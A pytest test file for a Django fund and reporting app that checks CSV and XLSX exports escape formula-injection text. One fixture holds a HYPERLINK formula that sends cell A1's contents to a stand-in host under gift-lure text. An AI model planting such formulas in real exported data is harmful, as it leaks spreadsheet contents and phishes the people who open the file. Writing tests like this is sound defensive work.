"""No exported spreadsheet runs typed text as a formula (CSV/formula injection)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from campaigns import services
from core.spreadsheets import safe_cell, safe_row
from reports.models import Indicator, IndicatorGroup
from tests import factories
from tests.readers import xlsx_workbook

HOSTILE_NAME = '=HYPERLINK("http://lua-dao.example/?d="&A1,"Bấm để nhận quà")'


@pytest.mark.parametrize(
    "text", ["=1+1", "+84 912", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "＝1+1", HOSTILE_NAME]
)
def test_text_starting_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "Nguyễn Văn Bình",
        "Quỹ =1",
        "",
        5,
        -200_000,
        0,
        1.5,
        Decimal("0.8200"),
        datetime.date(2026, 3, 5),
        None,
        True,
    ],
)
def test_ordinary_text_and_every_number_pass_unchanged(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_a_whole_row_is_made_safe():
    assert safe_row(["=A1", 12, "Thu"]) == ["'=A1", 12, "Thu"]


# --- Exports ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_donor_named_like_a_formula_comes_out_escaped_in_the_public_csv(client, world, fund):
    officer = world.users["ward_officer"]
    factories.donation(
        fund_obj=fund,
        user=officer,
        donor_kind="organisation",
        donor_name=HOSTILE_NAME,
        amount=1_000_000,
    )
    services.disbursement_record(
        campaign=fund,
        ward=world.ward_x,
        user=officer,
        amount=400_000,
        purpose="disaster",
        decision_reference="+13/QĐ-MTTQ",
        paid_on=datetime.date(2026, 3, 15),
        description="@SUM(A1:A9)",
    )
    response = client.get(reverse("campaigns:public_fund_csv", args=[world.ward_x.code, fund.pk]))
    body = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    receipt = next(row for row in rows if row[1] == "Thu")
    payment = next(row for row in rows if row[1] == "Chi")
    assert receipt[3] == "'" + HOSTILE_NAME
    assert receipt[5] == "1000000"  # amounts stay plain numbers
    assert payment[2] == "'+13/QĐ-MTTQ"
    assert payment[4] == "Hỗ trợ thiên tai: @SUM(A1:A9)"  # not at the start: harmless
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


FORMULA_NAME = '=HYPERLINK("http://lua-dao.example")'


def _formula_indicator():
    group = IndicatorGroup.objects.create(name="-Nhóm gõ nhầm")
    return Indicator.objects.create(
        code="X_CONG_THUC",
        name=FORMULA_NAME,
        group=group,
        unit="@lượt",
        kind="count",
        rollup="sum",
    )


def _texts(workbook):
    return [
        cell
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url_name, args",
    [
        ("reports:entry_template", lambda w: [w.ward_x.code, 2025, 10]),
        ("reports:ward_year_export", lambda w: [w.ward_x.code, 2025]),
        ("reports:province_month_export", lambda w: [w.province_a.code, 2025, 10]),
    ],
)
def test_indicator_texts_are_never_formulas_in_report_workbooks(login, world, url_name, args):
    _formula_indicator()
    client = login(world.users["admin"])
    response = client.get(reverse(url_name, args=args(world)))
    cells = _texts(xlsx_workbook(response))
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    assert any(value.startswith("'" + FORMULA_NAME) for value in values)
    assert not any(value.startswith(("=", "+", "-", "@")) for value in values)


@pytest.mark.django_db
def test_a_fund_named_like_a_formula_is_plain_text_in_its_ledger(login, world):
    fund = factories.fund(ward_obj=world.ward_x, name="=1+1")
    client = login(world.users["ward_officer"])
    response = client.get(reverse("campaigns:ledger_xlsx", args=[world.ward_x.code, fund.pk]))
    cells = _texts(xlsx_workbook(response))
    assert all(cell.data_type != "f" for cell in cells)
    assert cells[0].value.startswith("Sổ quỹ =1+1")
